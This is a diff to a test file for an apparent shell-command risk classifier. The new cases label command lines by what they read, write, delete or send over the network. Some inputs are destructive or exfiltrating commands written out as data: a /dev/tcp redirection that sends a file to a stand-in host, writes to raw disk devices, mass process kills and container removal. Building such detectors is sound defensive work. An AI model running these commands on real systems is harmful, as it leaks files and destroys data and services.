@@ -26,6 +26,10 @@ describe("a redirection", () => {
     ["{ echo x; } > a", ["writes a"]],
     ["{ pytest; } > a 2> b", ["writes a", "writes b"]],
     ["{ :; } > a", ["overwrite", "writes a"]],
+    ["/usr/bin/time -o a ls", ["writes a"]],
+    ["sqlite3 a.db '.output b' 'select 1'", ["reads a.db", "writes b"]],
+    [`node -e "require('fs').writeFileSync('a/b','')"`, ["writes a/b"]],
+    ["exec 3<>/dev/tcp/h.test/80; cat a >&3", ["network-in network-out", "talks to h.test", "network-in network-out", "reads a", "talks to h.test", "file a flows to network"]],
     ["(true; false) > a", ["overwrite", "writes a"]],
     ["for f in x y; do echo $f; done > a", ["writes a"]],
     ["while read -r l; do echo $l; done < a > b", ["reads a", "writes b", "reads a", "reads a"]],
@@ -34,6 +38,27 @@ describe("a redirection", () => {
     ["cat x > /dev/sda", ["disk overwrite", "reads x", "writes /dev/sda"]],
     ["cat x > /dev/nvme0n1", ["disk overwrite", "reads x", "writes /dev/nvme0n1"]],
   ])("of %s touches what it names", (line, expected) => expect(told(line)).toEqual(expected));
+});
+
+describe("words that another command has listed", () => {
+  it.each([
+    ["docker ps -aq | xargs docker rm", ["container delete work-loss"]],
+    ["docker ps -aq --filter status=exited | xargs docker rm", ["container delete"]],
+    ["docker rm x", ["container delete"]],
+    ["ps aux | awk '{print $2}' | xargs kill", ["kill power"]],
+    ["ps aux | grep node | awk '{print $2}' | xargs kill", ["kill"]],
+    ["ps aux | awk '/node/ {print $2}' | xargs kill", ["kill"]],
+    ["lsof -ti :3000 | xargs kill", ["kill"]],
+  ])("in %s are all there are, or some", (line, expected) => expect(told(line)).toEqual(expected));
+});
+
+describe("what never ends", () => {
+  it.each([
+    ["yes | dd of=a", ["overwrite exhaust", "writes a forced"]],
+    ["cat /dev/zero | gzip | tee a", ["exhaust", "writes a"]],
+    ["yes | head -3 | tee a", ["writes a"]],
+    ["head -c 10 /dev/urandom | base64 | tee a", ["writes a"]],
+  ])("fills a file by a pipe: %s", (line, expected) => expect(told(line)).toEqual(expected));
 });
 
 describe("the sed of BSD", () => {
